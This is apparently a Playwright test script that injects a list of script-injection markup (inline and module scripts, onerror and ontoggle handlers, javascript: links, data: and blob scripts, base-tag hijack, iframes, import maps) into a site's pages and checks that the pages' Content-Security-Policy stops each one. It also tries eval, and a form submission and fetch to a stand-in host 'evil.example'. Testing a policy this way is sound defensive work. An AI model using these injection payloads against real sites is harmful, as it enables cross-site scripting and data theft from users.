// Open pages into which scripts were put in every way, under the policy the pages bring: none may run.
// Prints a JSON object: what ran, and which ways do run on the same page without its policy (so that they are tries).
// A refresh by <meta> is no script and no policy stops it; the gate refuses it in content (tests/gate).
import { asked, browser, each, serveAll } from "./harness.mjs";

const { sites, pages } = await asked();
const { address, close } = await serveAll(sites);
const chromium = await browser();
const report = { ran: [], asked: [], unguarded: {} };

const mark = (way) => `(top.ran = top.ran || []).push('${way}')`;
const data = (way) => `data:text/javascript,${encodeURIComponent(mark(way))}`;
const html = (way) => `data:text/html,<script>${encodeURIComponent(`parent.postMessage('${way}','*')`)}</script>`;
const EVIL = "https://evil.example";

/** Markup by the way it tries; `{run}` marks what has to be done to it once it is there. */
const WAYS = {
  inline: `<script>${mark("inline")}</script>`,
  module: `<script type="module">${mark("module")}</script>`,
  handler: `<img src="x" alt="" onerror="${mark("handler")}">`,
  "svg handler": `<svg onload="${mark("svg handler")}"></svg>`,
  "svg script": `<svg><script>${mark("svg script")}</script></svg>`,
  "details handler": `<details open ontoggle="${mark("details handler")}"><summary>x</summary></details>`,
  "javascript: link": `<a id="bait-link" href="javascript:${mark("javascript: link")}">x</a>`,
  "javascript: form": `<form action="javascript:${mark("javascript: form")}"><button id="bait-form">x</button></form>`,
  "data: script": `<script src="${data("data: script")}"></script>`,
  "other host": `<script src="${EVIL}/other-host.js"></script>`,
  base: `<base href="${EVIL}/"><script src="based.js"></script>`,
  "frame with markup": `<iframe srcdoc="<script>parent.postMessage('frame with markup','*')</script>"></iframe>`,
  "frame with data": `<iframe src="${html("frame with data")}"></iframe>`,
  "frame of another host": `<iframe src="${EVIL}/frame.html"></iframe>`,
  object: `<object data="${html("object")}"></object>`,
  embed: `<embed src="${html("embed")}" type="text/html">`,
  "import map": `<script type="importmap">{"imports":{"x":"${data("import map")}"}}</script><script type="module">import "x"</script>`,
  preload: `<link rel="modulepreload" href="${EVIL}/preload.js"><link rel="stylesheet" href="${EVIL}/style.css">`,
};
const BAITS = ["bait-link", "bait-form"];

/** What code that got in by some other hole would try next; the page's own scripts are never asked to. */
const NEXT = {
  eval: () => eval("(top.ran = top.ran || []).push('eval')"), // eslint-disable-line no-eval
  "function from text": () => new Function("(top.ran = top.ran || []).push('function from text')")(),
  "worker from blob": () => new Promise((done) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage('x')"])));
    worker.onmessage = () => { (top.ran = top.ran || []).push("worker from blob"); done(); };
    worker.onerror = done;
  }),
  "script from blob": () => new Promise((done) => {
    const script = document.createElement("script");
    script.src = URL.createObjectURL(new Blob(["(top.ran = top.ran || []).push('script from blob')"]));
    script.onload = script.onerror = done;
    document.head.append(script);
  }),
  "form to another host": () => new Promise((done) => {
    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/form", target: "bait" });
    document.body.append(form);
    form.submit();
    setTimeout(done, 100);
  }),
  "fetch from another host": () => fetch("https://evil.example/fetch").catch(() => {}),
};

/** What another host would be asked for, by the way that asks. */
const ASKED = {
  "/based.js": "base", "/other-host.js": "other host", "/frame.html": "frame of another host", "/preload.js": "preload",
  "/style.css": "preload", "/form": "form to another host", "/fetch": "fetch from another host",
};

/** Open a page with markup put in, with its policy or without; returns the ways that ran or reached another host. */
async function open(page, markup, guarded) {
  const context = await chromium.newContext();
  const tab = await context.newPage();
  const ran = new Set();
  await tab.exposeFunction("told", (what) => { ran.add(what); });
  await tab.addInitScript(() => { addEventListener("message", ({ data: said }) => { if (typeof said === "string") window.told?.(said); }); });
  await context.route(`${EVIL}/**`, async (route) => {
    const way = ASKED[new URL(route.request().url()).pathname];
    ran.add(way ?? "base"); // an address of our own, led astray
    await route.fulfill({ contentType: "text/plain", body: "" });
  });
  await tab.route(address(page), async (route) => {
    const answer = await route.fetch();
    const text = (await answer.text()).replace("<main", `${markup}<main`);
    await route.fulfill({ response: answer, body: guarded ? text : text.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "") });
  });
  await tab.goto(address(page));
  for (const bait of BAITS) await tab.evaluate((id) => document.getElementById(id)?.click(), bait);
  if (!markup.includes("<base")) {
    // From a timer, since what a debugger evaluates is exempt from the policy.
    for (const next of Object.values(NEXT)) {
      await tab.evaluate(`new Promise((done) => setTimeout(async () => { try { await (${next.toString()})(); } catch {} done(); }))`);
    }
  }
  await tab.waitForTimeout(300);
  for (const what of await tab.evaluate(() => window.ran ?? [])) ran.add(what);
  await context.close();
  return ran;
}

const { base, ...others } = WAYS;
const tries = [base, Object.values(others).join("\n")];
await each(pages.flatMap((page) => tries.map((markup) => [page, markup])), async ([page, markup]) => {
  for (const way of await open(page, markup, true)) report.ran.push(`${page.path}: ${way}`);
  for (const way of await open(page, markup, false)) report.unguarded[way] = (report.unguarded[way] ?? 0) + 1;
});
report.asked = [...Object.keys(WAYS), ...Object.keys(NEXT)];
await chromium.close();
close();
console.log(JSON.stringify(report));
